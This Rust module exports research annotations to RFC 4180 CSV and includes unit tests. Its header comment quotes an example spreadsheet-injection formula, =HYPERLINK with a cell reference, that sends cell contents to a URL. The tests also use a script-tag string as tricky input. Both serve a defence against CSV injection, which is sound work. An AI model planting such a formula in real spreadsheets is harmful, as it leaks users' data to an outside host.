//! CSV: one row per annotation, for spreadsheets and statistics packages.
//!
//! RFC 4180 (the `csv` crate: fields quoted when they hold a comma, quote or line break,
//! quotes doubled, CRLF between records), UTF-8 with a byte-order mark so that Excel reads
//! the accents right (the `csv` crate and pandas' `utf-8-sig` skip it). Columns:
//!
//! `id, document, title, start, end, page, quote, note, tags, created, modified, status,
//! current_quote, coder, region`
//!
//! `coder` is the name of who coded the passage (empty for annotations made before Dossier
//! recorded coders); it comes last so that scripts reading the earlier columns by position
//! keep working. `region`, after it for the same reason, says where a region of a page
//! is ("page 3, 120×90 at 10,40": its size and top-left corner in the layout's units, PDF
//! points or image pixels); empty for a passage of text. A region without words has an
//! empty `quote`.
//!
//! `tags` holds full paths ("Russia / Bases") joined with "; ", in codebook order. An
//! orphan has `status` "orphaned" and empty `start`, `end` and `page`: its old position
//! means nothing in the current text. When the document's wording at the passage changed
//! since it was coded, `quote` stays the quote as coded, `status` is "wording changed" and
//! `current_quote` holds the words now at `start..end` (empty otherwise). Rows are in
//! document order, then text order.
//!
//! A text cell (document, title, quote, note, tags, coder) that starts with `=`, `+`, `-`, `@`, a
//! tab or a carriage return gets an apostrophe in front: spreadsheets would otherwise run
//! it as a formula, and a document under study can hold one on purpose
//! (`=HYPERLINK("http://…?"&A1)` sends the sheet's cells away when clicked). This is
//! OWASP's advice for CSV injection; a program reading the file can drop that one leading
//! apostrophe, or read the W3C export, which keeps every text exactly.

use super::{Context, ExportError, ExportFormat, timestamp};
use crate::interchange::inert;

/// The header row.
pub const COLUMNS: [&str; 15] = [
    "id",
    "document",
    "title",
    "start",
    "end",
    "page",
    "quote",
    "note",
    "tags",
    "created",
    "modified",
    "status",
    "current_quote",
    "coder",
    "region",
];

/// Separates tags in the `tags` column.
pub const TAG_SEPARATOR: &str = "; ";

const BOM: &[u8] = b"\xEF\xBB\xBF";

pub(super) fn render(context: &Context) -> Result<Vec<u8>, ExportError> {
    let fail = |e: csv::Error| ExportError::build(ExportFormat::Csv, e);
    let mut writer = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .quote_style(csv::QuoteStyle::Necessary)
        .from_writer(BOM.to_vec());
    writer.write_record(COLUMNS).map_err(fail)?;
    for item in &context.items {
        let a = item.annotation;
        let (start, end, page, status) = match &item.place {
            Some(place) => (
                a.anchor.start.to_string(),
                a.anchor.end.to_string(),
                place.page.map(|p| p.to_string()).unwrap_or_default(),
                if item.current_quote().is_some() {
                    "wording changed"
                } else {
                    "anchored"
                },
            ),
            None => (String::new(), String::new(), String::new(), "orphaned"),
        };
        let tags: Vec<String> = item.tags.iter().map(|&t| context.tag_path(t)).collect();
        writer
            .write_record([
                a.id.to_string().as_str(),
                &inert(&a.document),
                &inert(item.title),
                &start,
                &end,
                &page,
                &inert(&a.anchor.quote),
                &inert(&a.note),
                &inert(&tags.join(TAG_SEPARATOR)),
                &timestamp(a.created),
                &timestamp(a.modified),
                status,
                &inert(item.current_quote().unwrap_or_default()),
                &inert(a.coder.as_deref().unwrap_or_default()),
                &super::report::region_words(item).unwrap_or_default(),
            ])
            .map_err(fail)?;
    }
    writer
        .into_inner()
        .map_err(|e| ExportError::build(ExportFormat::Csv, e.error()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::export::fixture::{self, BASES, TRICKY};
    use crate::export::render;

    fn rows() -> (Vec<u8>, Vec<csv::StringRecord>) {
        let f = fixture::fixture();
        let bytes = render(ExportFormat::Csv, &f.project, &f.corpus)
            .expect("export")
            .bytes;
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let headers = reader.headers().expect("headers").clone();
        assert_eq!(headers.iter().collect::<Vec<_>>(), COLUMNS);
        let rows = reader
            .records()
            .collect::<Result<Vec<_>, _>>()
            .expect("records");
        (bytes, rows)
    }

    fn field<'r>(row: &'r csv::StringRecord, column: &str) -> &'r str {
        let i = COLUMNS.iter().position(|c| *c == column).expect("column");
        row.get(i).expect("field")
    }

    #[test]
    fn every_annotation_is_one_row_that_parses_back() {
        let f = fixture::fixture();
        let (bytes, rows) = rows();
        assert!(bytes.starts_with(BOM));
        // Saved inside the corpus, it is not read back as a table of quotes.
        assert!(crate::corpus::own_export::is_own_export(
            crate::corpus::Format::Csv,
            &bytes
        ));
        assert_eq!(rows.len(), f.project.annotations.len());
        // Rows in document order, then text order; the orphan's document sorts first.
        let order: Vec<(&str, &str)> = rows
            .iter()
            .map(|r| (field(r, "document"), field(r, "quote")))
            .collect();
        assert_eq!(
            order,
            [
                ("gone.txt", "lost passage"),
                (BASES, "Ţarţūs"),
                (BASES, "military bases in Hmeimim and Tartus"),
                (BASES, "Talks in Damascus"),
                (TRICKY, "<script>alert(\"x\")</script> & then"),
                (TRICKY, "'= 1+1 starts"),
            ]
        );
    }

    #[test]
    fn positions_are_char_offsets_into_the_text() {
        let f = fixture::fixture();
        let (_, rows) = rows();
        for row in rows.iter().filter(|r| field(r, "status") == "anchored") {
            let doc = f.corpus.get(field(row, "document")).expect("document");
            let start: usize = field(row, "start").parse().expect("start");
            let end: usize = field(row, "end").parse().expect("end");
            // The one quote that starts like a formula carries an apostrophe in front.
            let quote = field(row, "quote");
            let quote = quote
                .strip_prefix("'=")
                .map_or(quote.to_owned(), |q| format!("={q}"));
            assert_eq!(doc.text.slice(start..end), Some(quote.as_str()));
        }
        let bases = rows
            .iter()
            .find(|r| field(r, "quote") == "military bases in Hmeimim and Tartus")
            .expect("row");
        // "Ţarţūs harbour\nRussia has kept its " is 35 chars but more bytes.
        assert_eq!(field(bases, "start"), "35");
    }

    #[test]
    fn tags_notes_and_orphans_are_written_in_full() {
        let (bytes, rows) = rows();
        let by_quote = |q: &str| rows.iter().find(|r| field(r, "quote") == q).expect("row");
        let two_tags = by_quote("Ţarţūs");
        assert_eq!(field(two_tags, "tags"), "Actors; Russia");
        let bases = by_quote("military bases in Hmeimim and Tartus");
        assert_eq!(field(bases, "tags"), "Russia / Bases");
        assert_eq!(
            field(bases, "note"),
            "Key claim; \"since 2015\" per the source.\nCheck against the 2017 treaty."
        );
        assert_eq!(field(bases, "created"), "2025-12-06T05:53:40Z");
        let tricky = by_quote("<script>alert(\"x\")</script> & then");
        assert_eq!(field(tricky, "note"), "a,b;c \"and\" 'quotes'");
        assert_eq!(field(tricky, "title"), "Escapes & co");
        let orphan = by_quote("lost passage");
        assert_eq!(
            (
                field(orphan, "status"),
                field(orphan, "start"),
                field(orphan, "tags")
            ),
            ("orphaned", "", "Russia / Diplomacy")
        );
        // RFC 4180: quotes doubled inside a quoted field, CRLF between records.
        let text = String::from_utf8(bytes).expect("utf-8");
        assert!(text.contains("\"a,b;c \"\"and\"\" 'quotes'\""), "{text}");
        assert!(text.contains("status,current_quote,coder,region\r\n"));
    }

    #[test]
    fn each_row_names_its_coder() {
        let (_, rows) = rows();
        let coder = |q: &str| {
            let row = rows.iter().find(|r| field(r, "quote") == q).expect("row");
            field(row, "coder").to_owned()
        };
        assert_eq!(coder("military bases in Hmeimim and Tartus"), "Ana");
        assert_eq!(coder("Ţarţūs"), "Bob \"B.\" <Lee>");
        assert_eq!(coder("Talks in Damascus"), "");
    }

    #[test]
    fn a_region_row_says_its_page_and_box() {
        let f = fixture::with_regions();
        let bytes = render(ExportFormat::Csv, &f.project, &f.corpus)
            .expect("export")
            .bytes;
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let rows = reader
            .records()
            .collect::<Result<Vec<_>, _>>()
            .expect("records");
        let photo = rows
            .iter()
            .find(|r| field(r, "document") == fixture::PHOTO)
            .expect("the photo's row");
        assert_eq!(field(photo, "region"), "page 1, 120×90 at 20,30");
        assert_eq!(
            (field(photo, "quote"), field(photo, "status")),
            ("", "anchored")
        );
        let text = rows
            .iter()
            .find(|r| field(r, "document") == BASES)
            .expect("a text row");
        assert_eq!(field(text, "region"), "");
    }
}
